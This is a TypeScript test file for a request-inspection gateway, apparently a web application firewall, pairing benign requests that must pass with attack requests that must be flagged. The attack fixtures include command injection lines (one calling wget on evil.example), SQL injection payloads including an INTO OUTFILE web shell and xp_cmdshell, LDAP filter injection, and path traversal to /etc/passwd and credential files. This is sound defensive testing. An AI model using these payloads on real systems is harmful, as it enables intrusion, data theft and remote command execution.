import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { type InspectedRequest, inspect } from '../src/index.ts'

const asked = (path: string, query: Readonly<Record<string, string>>): InspectedRequest => ({
  method: 'GET',
  target: `${path}?${new URLSearchParams(query)}`,
  headers: [],
})

const posted = (type: string, body: string): InspectedRequest => ({
  method: 'POST',
  target: '/items',
  headers: ['content-type', type],
  body: Buffer.from(body),
})

const filled = (fields: Readonly<Record<string, string>>): InspectedRequest =>
  posted('application/x-www-form-urlencoded', `${new URLSearchParams(fields)}`)

const sent = (body: unknown): InspectedRequest => posted('application/json', JSON.stringify(body))

/** What applications that people run behind the gateway send, and what stays an attack beside it. */
const KINDS: Readonly<
  Record<
    string,
    { readonly honest: readonly InspectedRequest[]; readonly attacks: readonly InspectedRequest[] }
  >
> = {
  'the last word of an element, behind an ampersand, a semicolon or a bar': {
    honest: [
      filled({ content: '<p>Salt &amp; more</p><p>Pepper</p>' }),
      filled({ content: '<h2>Read &amp; sort<br>twice</h2>' }),
      filled({ 'page[body]': '<b>Terms &amp; more</b> and <i>dos &amp; date</i>' }),
      filled({ content: '<ul><li>first; more</li><li>next; find</li></ul>' }),
      filled({ content: '<table><tr><td>top | head</td><td>cut | copy</td></tr></table>' }),
      sent({ body: '<li>first; more</li><li>b</li>' }),
      sent({ html_part: '<td>top | tail</td><td>x</td>' }),
      sent({ html: '<p>Tips &amp; more</p><a href="https://x.example/?a=1&b=2">x</a>' }),
      sent({ parameters: { html: '<b>Salt &amp; sort</b><img src="a.png">' } }),
      filled({ content: '<p>Salt &amp; more<a href="https://x.example/">x</a></p>' }),
      filled({ content: 'this; more<ul><li>x</li></ul>' }),
    ],
    attacks: [
      filled({ content: '; id</b>' }),
      filled({ content: 'a.png; id</p>' }),
      filled({ content: '; ls -la</p>' }),
      filled({ content: '; more</etc/passwd' }),
      filled({ content: '; cat</etc/passwd>x' }),
      filled({ content: '; sort</var/lib/x' }),
      filled({ content: '<p>x</p>; cat /etc/passwd</p>' }),
      filled({ content: '1; wget http://evil.example/x</p>' }),
      filled({ content: '127.0.0.1; whoami</p>' }),
      filled({ content: '1;cat</pwd' }),
      filled({ content: '; cat<a /etc/passwd' }),
      filled({ content: 'x;cat<p /etc/passwd' }),
      filled({ content: '; ls<a href="x">' }),
      filled({ content: '127.0.0.1;id<a>' }),
      sent({ host: '127.0.0.1; id</b>' }),
      asked('/s', { q: '127.0.0.1; whoami</p>' }),
    ],
  },
  'a query in a text that has an apostrophe before it': {
    honest: [
      filled({ body: "It's quick: SELECT * FROM t WHERE a = 'x' AND b = 'y' and that's it." }),
      sent({
        body: "<p>O'Brien</p><pre><code>SELECT * FROM t WHERE a = 'x' AND b &lt;&gt; 'y';</code></pre>",
      }),
      sent({ blob: "I don't know why, but WHERE a = 'x' AND b > 5 is slow" }),
      filled({ comment: "D'Arcy says that a = 'x' OR c IN ('open', 'new') is what we need" }),
      filled({ comment: "we're sure, they'll see: if a == 'x' and b != 'y' then" }),
    ],
    attacks: [
      filled({ body: "it's ' AND b = 'y" }),
      filled({ body: "don't know' or 'a'='a" }),
      filled({ body: "x's' or 'a'='a" }),
      filled({ body: "o'or 1=1-- " }),
      filled({ body: "d'union select password from users-- " }),
      filled({ body: "it's x' UNION SELECT password FROM users-- " }),
      filled({ name: "it's' or b = 'y" }),
      filled({ name: "O'Brien' or b = 'y" }),
      asked('/s', { q: "it's' AND SLEEP(5)-- " }),
      asked('/s', { q: "o'brien' AND 1=1-- " }),
    ],
  },
  'a file of an application that is about credentials': {
    honest: [
      asked('/types/credentials.json', {}),
      asked('/base/types/credentials.json', { v: '2' }),
      asked('/locales/en/credentials.json', {}),
      asked('/assets/i18n/pt-BR/secrets.json', {}),
      asked('/schemas/credentials.yaml', {}),
    ],
    attacks: [
      asked('/credentials.json', {}),
      asked('/config/credentials.json', {}),
      asked('/api/secrets.json', {}),
      asked('/locales/../credentials.json', {}),
      asked('/locales/en/config/credentials.json', {}),
      asked('/types/.env', {}),
      asked('/i18n/en/.git/config', {}),
      asked('/mytypes/credentials.json', {}),
    ],
  },
  'a statement that the console of a database takes': {
    honest: [
      asked('/index.php', {
        route: '/sql',
        sql_query: 'SELECT * FROM `users`  \nORDER BY `users`.`id` ASC',
      }),
      asked('/index.php', { sql_query: "SELECT * FROM `users` WHERE `name` LIKE '%o\\'%' AND `id` > 3" }),
      asked('/index.php', { sql_query: 'SHOW VARIABLES' }),
      filled({ sql_query: 'SELECT id, total FROM `orders` ORDER BY `id` DESC LIMIT 25' }),
      filled({ sql_query: 'DELETE FROM `t` WHERE `t`.`id` = 3' }),
      filled({
        sql_query: "BEGIN\n  SELECT CONCAT('a', b) FROM c;\n  UPDATE c SET b = 'y' WHERE d = 2;\nEND",
      }),
      filled({ sql: "SELECT a FROM t WHERE b = 'x' UNION ALL SELECT 'z', d FROM u" }),
      filled({ raw_sql: 'ALTER TABLE `a` CHANGE `b` `c` TEXT NULL DEFAULT NULL' }),
      sent({ sql: 'DELETE FROM `t` WHERE `t`.`id` = 3' }),
      filled({ sql_query_for_bookmark: 'SELECT * FROM `a` WHERE `id` = 1' }),
      filled({ 'bkm_fields[bkm_sql_query]': "SELECT * FROM a WHERE b LIKE '%[VARIABLE1]%'" }),
      asked('/index.php', { route: '/table/change', where_clause: '`orders`.`id` = 2' }),
      filled({ 'where_clause[0]': "`shop`.`groups`.`host` = 'a\\'b' AND `groups`.`id` = 'root'" }),
    ],
    attacks: [
      asked('/index.php', { sql_query: "1' UNION SELECT password FROM users-- " }),
      asked('/index.php', { sql_query: 'SELECT SLEEP(5)' }),
      asked('/index.php', { sql_query: "SELECT '<?php system(1) ?>' INTO OUTFILE '/var/www/x.php'" }),
      asked('/index.php', { sql_query: "SELECT LOAD_FILE('/etc/passwd')" }),
      asked('/s', { sql: 'SELECT 1 UNION SELECT password FROM users' }),
      asked('/s', { query: 'SELECT id, total FROM `orders` ORDER BY `id` DESC LIMIT 25' }),
      filled({ sql: "x' UNION SELECT password FROM users--" }),
      filled({ sql_query: "' OR '1'='1" }),
      filled({ sql_query: '1; DROP TABLE users' }),
      filled({ sql_query: "SELECT 1; EXEC master..xp_cmdshell 'dir'" }),
      filled({ sql_query: "COPY a FROM PROGRAM 'id'" }),
      filled({ sql_query: 'SELECT $(cat /etc/passwd)' }),
      filled({ sql_query: 'x; `id`' }),
      filled({ where_clause: '`orders`.`id`' }),
      filled({ where_clause: '`orders`.`id` = 2; `id`' }),
      filled({ where_clause: "`a`.`id` = 'x' OR 1=1-- " }),
      filled({ where_clause: '`a`.`id` = `id`' }),
      filled({ name: '`orders`.`id` = 2' }),
      filled({ where_clause: '`wget http://evil.example/x`.`id` = 2' }),
      filled({ name: 'DELETE FROM `t` WHERE `t`.`id` = 3' }),
      filled({ sql_query: '<script>alert(1)</script>' }),
    ],
  },
  'a database of the server itself, in a console': {
    honest: [
      asked('/index.php', { route: '/database/structure', db: 'information_schema' }),
      asked('/sql.php', { pgsql: '', ns: 'information_schema' }),
      asked('/browse', { schema: 'pg_catalog' }),
      filled({ aPath: 'cm9vdA==.aW5mb3JtYXRpb25fc2NoZW1h', n0_vPath: 'cm9vdA==.aW5mb3JtYXRpb25fc2NoZW1h' }),
    ],
    attacks: [
      asked('/s', { q: 'information_schema' }),
      filled({ id: 'pg_catalog' }),
      asked('/s', { db: "x' UNION SELECT a FROM information_schema.tables-- " }),
      filled({ aPath: '../../../../etc/passwd' }),
      filled({ schema: "pg_catalog' or '1'='1" }),
    ],
  },
  'an address of mail that begins like a statement': {
    honest: [
      filled({ 'user[mail]': 'exec@x.example', username: 'exec@mail.x.example' }),
      asked('/users', { email: 'declare@x.example' }),
      sent({ email: 'execute@x.example' }),
      filled({ tab: 'select-1' }),
      asked('/s', { panel: 'select-12' }),
    ],
    attacks: [
      filled({ username: 'exec@x' }),
      filled({ username: 'exec @x' }),
      filled({ username: 'declare @x varchar(9)' }),
      filled({ username: '1;exec@x.example;exec(@y)' }),
      filled({ tab: 'select-1 from users' }),
      filled({ tab: '(select-1)' }),
      filled({ tab: '1 union select-1' }),
    ],
  },
  'the filter of a directory in a form of settings': {
    honest: [
      filled({ 'auth_source[filter]': '(&(objectClass=person)(|(uid=*)(mail=*)))' }),
      filled({ 'application_setting[ldap_user_filter]': '(&(objectClass=user)(sAMAccountName=%u))' }),
      filled({ s01ldap_userlist_filter: '(|(objectClass=inetOrgPerson))' }),
    ],
    attacks: [
      filled({ 'auth_source[filter]': '*)(uid=*))(|(uid=*' }),
      filled({ 'auth_source[filter]': '(uid=a)(|(uid=*))' }),
      filled({ 'auth_source[filter]': '(&(uid=a)(userPassword=*))' }),
      filled({ 'auth_source[name]': '(&(objectClass=person)(|(uid=*)(mail=*)))' }),
      filled({ filter: '(&(objectClass=person)(|(uid=*)(mail=*)))' }),
      asked('/s', { 'a[filter]': '(&(objectClass=person)(|(uid=*)(mail=*)))' }),
    ],
  },
  'a title that names a file': {
    honest: [
      filled({ 'issue[subject]': 'Error 500 in /etc/nginx/sites/x.conf' }),
      filled({ title: 'Cannot read /var/log/app.log' }),
      filled({ short_desc: 'Why is /proc/cpuinfo empty?' }),
      filled({ 'post[title]': "Can't open C:\\Windows\\System32\\drivers\\etc\\hosts" }),
    ],
    attacks: [
      filled({ title: '../../../../etc/passwd' }),
      filled({ title: '; cat /etc/passwd' }),
      filled({ title: 'php://filter/convert.base64-encode/resource=/etc/passwd' }),
      filled({ 'issue[subject]': 'x\r\nBcc: a@x.example' }),
      filled({ 'issue[title_file]': '/etc/passwd' }),
      filled({ subject_id: '/etc/passwd' }),
      asked('/s', { title: '/etc/passwd' }),
    ],
  },
}

for (const [kind, { honest, attacks }] of Object.entries(KINDS))
  describe(kind, () => {
    test('passes', () => {
      for (const request of honest) {
        const { verdict, matches } = inspect(request)
        assert.equal(verdict, 'pass', `${request.target} ${request.body ?? ''}: ${matches[0]?.rule}`)
      }
    })
    test('does not excuse what is an attack beside it', () => {
      for (const request of attacks)
        assert.notEqual(inspect(request).verdict, 'pass', `${request.target} ${request.body ?? ''}`)
    })
  })
